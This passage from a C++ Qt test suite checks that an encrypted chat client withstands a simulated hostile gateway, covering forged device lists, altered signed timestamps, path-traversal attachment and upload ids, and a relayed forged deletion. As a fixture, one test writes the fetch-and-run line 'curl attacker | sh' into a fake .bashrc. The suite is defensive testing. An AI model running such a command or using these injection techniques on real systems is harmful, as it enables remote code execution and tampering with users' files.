                    !keys.ParseFromArray(body.constData(), int(body.size())) || keys.device_lists_size() == 0)
                    return;
                rogue->fillDeviceKeys(keys.add_devices(), bobNick, rogueId);
                forged->toProto(keys.mutable_device_lists(0));
                body = serialized(keys);
            });
        QSignalSpy refused((*alice)->crypto(), &crypto::ChannelCrypto::deviceListRefused);
        QVERIFY(alice->run((*alice)->fetchKeys({bobNick})));
        QVERIFY(!refused.isEmpty());
        QCOMPARE((*alice)->crypto()->deviceList(bobNick)->generation(), held->generation());
        QCOMPARE((*alice)->crypto()->trust().state(bobNick, rogueId), crypto::TrustStore::State::NewDevice);
        const quint64 seq = sendAndWait(*alice, ch, QStringLiteral("not for the gateway's device"));
        QVERIFY(seq > 0);
        QVERIFY(alice->store()->outbox(QLatin1Char('~') + rogueId).isEmpty());
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*bob, ch, seq), QStringLiteral("not for the gateway's device"),
                                  20000);
    }

    // The gateway holds a message back for three hours (its stored time says so): Bob's client
    // keeps the time Alice's device signed, so the delay shows. Changing that signed time, or
    // stripping it, breaks the signature: the message is refused, never shown with a false time.
    void delayIsShownAndTheSignedTimeCannotBeChanged()
    {
        const QString ch = QStringLiteral("late-delivery");
        auto [alice, bob] = encryptedPair(ch);
        constexpr qint64 kThreeHours = 3LL * 3600 * 1000;
        enum class Tamper { Delay, Shift, Strip } tamper = Tamper::Delay;
        auto edit = [&](hchat::v1::Message &m) {
            if (QString::fromStdString(m.channel()) != ch || m.kind() != hchat::v1::MESSAGE_KIND_TEXT)
                return;
            if (tamper == Tamper::Delay) {
                m.set_server_time_ms(m.server_time_ms() + kThreeHours);
                return;
            }
            hchat::v1::EncryptedEnvelope env;
            if (!env.ParseFromString(m.body()))
                return;
            env.set_sender_time_ms(tamper == Tamper::Shift ? env.sender_time_ms() + kThreeHours : 0);
            m.set_body(env.SerializeAsString());
        };
        m_proxy->setFrameHook([&](const hchat::v1::Frame &f, QByteArray &bytes) {
            if (!f.has_push())
                return GatewayProxy::Verdict::Pass;
            hchat::v1::Frame copy = f;
            edit(*copy.mutable_push()->mutable_message());
            bytes = serialized(copy);
            return GatewayProxy::Verdict::Replace;
        });
        m_proxy->setSyncHook([&](const hchat::v1::SyncRequest &, int &status, QByteArray &body) {
            rewriteSync(status, body, edit);
        });
        const qint64 before = QDateTime::currentMSecsSinceEpoch();
        const quint64 late = sendAndWait(*alice, ch, QStringLiteral("sent at breakfast"));
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*bob, ch, late), QStringLiteral("sent at breakfast"), 20000);
        const auto row = bob->store()->message(ch, late);
        QVERIFY(row->senderTimeMs >= before && row->senderTimeMs <= QDateTime::currentMSecsSinceEpoch());
        QVERIFY(row->serverTimeMs - row->senderTimeMs >= kThreeHours - 60000);

        for (Tamper t : {Tamper::Shift, Tamper::Strip}) {
            tamper = t;
            const quint64 seq = sendAndWait(*alice, ch, QStringLiteral("a time that is not mine"));
            QTRY_VERIFY_WITH_TIMEOUT(bob->store()->message(ch, seq) &&
                                         bob->store()->message(ch, seq)->cryptoState ==
                                             StoredMessage::CryptoState::Undecryptable,
                                     20000);
            QVERIFY(bob->store()->message(ch, seq)->plainText.isEmpty());
        }
    }

    // Alice reads Bob's safety number; meanwhile the gateway shows a new device for Bob, which
    // Alice accepts. "Mark as verified" for the number she read is refused (it no longer matches);
    // for the new number it covers exactly the keys in it.
    void verificationCoversOnlyTheKeysShown()
    {
        const QString ch = QStringLiteral("verify");
        auto [alice, bob] = encryptedPair(ch);
        const QString bobNick = QStringLiteral("bob-") + ch;
        const QString shown = (*alice)->safetyNumber(bobNick);
        QVERIFY(!shown.isEmpty());
        auto extra = e2eeUser(*m_gw, bobNick); // a device for Bob that Alice never compared
        QVERIFY(alice->run((*alice)->fetchKeys({bobNick})));
        QVERIFY((*alice)->acceptDevice(bobNick, (*extra)->deviceId()));
        QString error;
        QVERIFY(!(*alice)->markVerified(bobNick, shown, &error));
        QVERIFY(error.contains(QStringLiteral("changed")));
        const auto &trust = (*alice)->crypto()->trust();
        QCOMPARE(trust.state(bobNick, (*bob)->deviceId()), crypto::TrustStore::State::Trusted);
        QCOMPARE(trust.state(bobNick, (*extra)->deviceId()), crypto::TrustStore::State::Trusted);
        const QString now = (*alice)->safetyNumber(bobNick);
        QVERIFY(now != shown);
        QVERIFY2((*alice)->markVerified(bobNick, now, &error), qPrintable(error));
        QCOMPARE(trust.state(bobNick, (*bob)->deviceId()), crypto::TrustStore::State::Verified);
        QCOMPARE(trust.state(bobNick, (*extra)->deviceId()), crypto::TrustStore::State::Verified);
    }

    // An attachment id that is a path (`../`) reaches the client by push and by pull, and the
    // hostile gateway serves the file under it: the client refuses the id, downloads nothing, and
    // neither opening nor the message's deletion touches anything outside its attachments folder.
    void maliciousAttachmentIdIsRefusedAndNothingOutsideIsTouched()
    {
        const QString ch = QStringLiteral("poisoned-files");
        auto alice = onlineUser(*m_gw, QStringLiteral("alice-files"), ch);
        HomeClient bob = homeClient(QStringLiteral("bob-files"), m_proxy->wsUrl());
        QVERIFY(bob.client->run((*bob.client)->joinChannel(ch)));

        QString realId;
        m_proxy->setFrameHook([&](const hchat::v1::Frame &f, QByteArray &bytes) {
            if (!f.has_push())
                return GatewayProxy::Verdict::Pass;
            hchat::v1::Frame copy = f;
            realId = QString::fromStdString(f.push().message().attachment_id());
            if (!poisonAttachment(copy.mutable_push()->mutable_message()))
                return GatewayProxy::Verdict::Pass;
            bytes = serialized(copy);
            return GatewayProxy::Verdict::Replace;
        });
        m_proxy->setSyncHook([&](const hchat::v1::SyncRequest &, int &status, QByteArray &body) {
            rewriteSync(status, body, [&](hchat::v1::Message &m) {
                if (!m.attachment_id().empty())
                    realId = QString::fromStdString(m.attachment_id());
                poisonAttachment(&m);
            });
        });
        // Whatever path the client asks for, the hostile gateway serves the real file's bytes.
        m_proxy->setRequestHook([&](QByteArray &method, QByteArray &path, QByteArray &) {
            if (method == "GET" && !realId.isEmpty() && !path.startsWith("/v1/uploads") &&
                !path.startsWith(QByteArrayLiteral("/v1/attachments/") + realId.toLatin1()))
                path = QByteArrayLiteral("/v1/attachments/") + realId.toLatin1();
        });

        const QMap<QString, QByteArray> before = listing(bob.home, bob.profile);
        QVERIFY(before.contains(QStringLiteral(".bashrc")));

        QFile evil(m_files.filePath(QStringLiteral(".bashrc")));
        QVERIFY(evil.open(QIODevice::WriteOnly));
        evil.write("curl attacker | sh\n");
        evil.close();
        const qint64 up = (*alice)->sendAttachment(ch, evil.fileName());
        QVERIFY(up > 0);
        const quint64 seq = [&] {
            QDeadlineTimer d(30000);
            while (!d.hasExpired()) {
                for (quint64 s = bob.client->store()->maxSeq(ch); s > 0; --s) {
                    const auto m = bob.client->store()->message(ch, s);
                    if (m && m->kind == MessageKind::Attachment)
                        return s;
                }
                QTest::qWait(20);
            }
            return quint64(0);
        }();
        QVERIFY2(seq > 0, "the attachment message did not reach bob");
        QVERIFY(!realId.isEmpty());

        // Opening it: refused with a reason, and nothing outside the attachments folder changes
        // (a client that built paths from the id would write ~/.bashrc here).
        QString error;
        const bool started = (*bob.client)->downloadAttachment(ch, seq, &error);
        QTest::qWait(1500); // a download the client wrongly started would have finished by now
        QCOMPARE(listing(bob.home, bob.profile), before);
        QVERIFY(!started);
        QVERIFY2(!error.isEmpty(), "a refused download says why");
        // The id never becomes a path: the message shows a damaged attachment, nothing to fetch.
        const auto stored = bob.client->store()->message(ch, seq);
        QVERIFY(stored);
        QVERIFY(stored->attachmentId.isEmpty() ||
                QRegularExpression(QStringLiteral("^[0-9a-f]{32}$")).match(stored->attachmentId).hasMatch());
        QVERIFY(stored->attachment.isEmpty());

        // The sender recalls it: the deletion of a poisoned attachment removes nothing outside.
        QString deleteError;
        QVERIFY2((*alice)->deleteMessage(ch, seq, &deleteError) > 0, qPrintable(deleteError));
        QTRY_VERIFY_WITH_TIMEOUT(bob.client->store()->message(ch, seq)->deleted, 20000);
        QTest::qWait(500);
        QCOMPARE(listing(bob.home, bob.profile), before);
        QVERIFY(QFileInfo::exists(bob.home + QStringLiteral("/Documents/thesis.txt")));
    }

    // The hostile gateway answers an upload with an id that is a path: the upload fails with a
    // clear error and the staged file is not moved outside the attachments folder.
    void maliciousUploadIdIsRefused()
    {
        const QString ch = QStringLiteral("poisoned-uploads");
        HomeClient carol = homeClient(QStringLiteral("carol-uploads"), m_proxy->wsUrl());
        QVERIFY(carol.client->run((*carol.client)->joinChannel(ch)));
        // Every answer names the upload by a path; requests for that name go to the real upload.
        QByteArray realId;
        m_proxy->setResponseHook(
            [&](const QByteArray &, const QByteArray &path, int &status, QByteArray &body) {
                hchat::v1::UploadStatus s;
                if (!path.startsWith("/v1/uploads") || status / 100 != 2 ||
                    !s.ParseFromArray(body.constData(), int(body.size())))
                    return;
                realId = QByteArray::fromStdString(s.upload_id());
                s.set_upload_id(kTraversalId.toStdString());
                body = serialized(s);
            });
        // (the client's HTTP stack may have resolved the "../" of the path already)
        m_proxy->setRequestHook([&](QByteArray &method, QByteArray &path, QByteArray &) {
            if (!realId.isEmpty() && (method == "PUT" || method == "GET") && path != "/v1/uploads/" + realId)
                path = QByteArrayLiteral("/v1/uploads/") + realId;
        });
        const QMap<QString, QByteArray> before = listing(carol.home, carol.profile);
        const QString file = m_files.filePath(QStringLiteral("notes.txt"));
        QFile f(file);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("meeting notes\n");
        f.close();
        const qint64 up = (*carol.client)->sendAttachment(ch, file);
        QVERIFY(up > 0);
        bool finished = false, ok = true;
        QString error;
        connect((*carol.client)->transfers(), &AttachmentTransfers::transferFinished, this,
                [&](const TransferId &id, bool rok, const QString &e) {
                    if (id != TransferId::upload(up))
                        return;
                    finished = true;
                    ok = rok;
                    error = e;
                });
        QTRY_VERIFY_WITH_TIMEOUT(finished, 30000);
        QTest::qWait(300);
        QCOMPARE(listing(carol.home, carol.profile), before);
        QVERIFY(!ok);
        QVERIFY(!error.isEmpty());
        // Nothing was sent under the poisoned id.
        QTest::qWait(300);
        const auto latest = carol.client->store()->latestMessage(ch);
        QVERIFY(!latest || latest->kind != MessageKind::Attachment);
    }

    // Issue 21: a member's signed deletion of someone else's message, which an honest gateway
    // refuses, is relayed by a hostile one. It decrypts and verifies as Bob's, yet Alice's client
    // keeps her message: Bob is no owner or moderator by the channel's signed membership.
    void aMembersSignedDeletionOfAnothersMessageIsIgnoredWhenRelayed()
    {
        const QString ch = QStringLiteral("unruly");
        auto [alice, bob] = encryptedPair(ch, Behind::Alice);
        const QString plan = QStringLiteral("the real plan");
        const quint64 genuine = sendAndWait(*alice, ch, plan);
        QVERIFY(genuine > 0);
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*bob, ch, genuine), plan, 20000);
        const quint64 hello = sendAndWait(*bob, ch, QStringLiteral("hello"));
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*alice, ch, hello), QStringLiteral("hello"), 20000);

        // Bob's client refuses to make it; his keys make it all the same.
        QString error;
        QVERIFY(!bob->run((*bob)->deleteOthersMessage(ch, genuine), &error));
        const QByteArray forgedId = QByteArray(16, '\x5a');
        const auto forged = (*bob)->crypto()->encryptForSend(ch, forgedId, {}, MessageKind::Delete, genuine);
        QVERIFY2(forged.ok && forged.shares.isEmpty(), qPrintable(forged.error));
        // The gateway hands it to Alice in place of Bob's next message, pushed or pulled.
        auto rewrite = [&](hchat::v1::Message &m) {
            if (QString::fromStdString(m.channel()) != ch || m.seq() <= hello ||
                m.kind() != hchat::v1::MESSAGE_KIND_TEXT ||
                m.sender() != bob->store()->message(ch, hello)->sender.toStdString())
                return false;
            m.set_kind(hchat::v1::MESSAGE_KIND_DELETE);
            m.set_ref_seq(genuine);
            m.set_client_msg_id(forgedId.toStdString());
            m.set_body(forged.body.toStdString());
            return true;
        };
        m_proxy->setFrameHook([&](const hchat::v1::Frame &f, QByteArray &bytes) {
            if (!f.has_push())
                return GatewayProxy::Verdict::Pass;
            hchat::v1::Frame copy = f;
            if (!rewrite(*copy.mutable_push()->mutable_message()))
                return GatewayProxy::Verdict::Pass;
            bytes = serialized(copy);
            return GatewayProxy::Verdict::Replace;
        });
        m_proxy->setSyncHook([&](const hchat::v1::SyncRequest &, int &status, QByteArray &body) {
            rewriteSync(status, body, [&](hchat::v1::Message &m) { rewrite(m); });
        });
        const quint64 carrier = sendAndWait(*bob, ch, QStringLiteral("an ordinary message"));
        QVERIFY(carrier > 0);
        // The forgery arrived and verified as Bob's deletion: only the role check stands between.
        QTRY_VERIFY_WITH_TIMEOUT(alice->store()->message(ch, carrier).has_value() &&
                                     alice->store()->message(ch, carrier)->cryptoState ==
                                         StoredMessage::CryptoState::Decrypted,
                                 20000);
        QCOMPARE(alice->store()->message(ch, carrier)->kind, MessageKind::Delete);
        QCOMPARE(alice->store()->message(ch, carrier)->refSeq, genuine);
        QTest::qWait(200);
        QVERIFY(!alice->store()->message(ch, genuine)->deleted);
        QCOMPARE(shownText(*alice, ch, genuine), plan);
    }
};

QTEST_GUILESS_MAIN(HostileGateway)
#include "tst_e2ee_hostile_gateway.moc"
